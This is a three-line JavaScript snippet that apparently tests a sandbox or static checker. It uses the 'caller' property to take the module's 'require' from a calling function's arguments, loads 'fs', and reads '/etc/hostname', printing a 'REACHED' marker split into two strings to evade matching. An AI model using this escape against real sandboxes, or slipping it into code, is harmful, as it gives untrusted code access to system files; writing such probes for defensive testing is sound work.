// the caller of a function under a quoted name, or by a pattern
function leak() { const { caller: c } = leak; return c.arguments[1] }
console.log('REA'+'CHED', leak()('fs').readFileSync('/etc/hostname', 'utf8'));
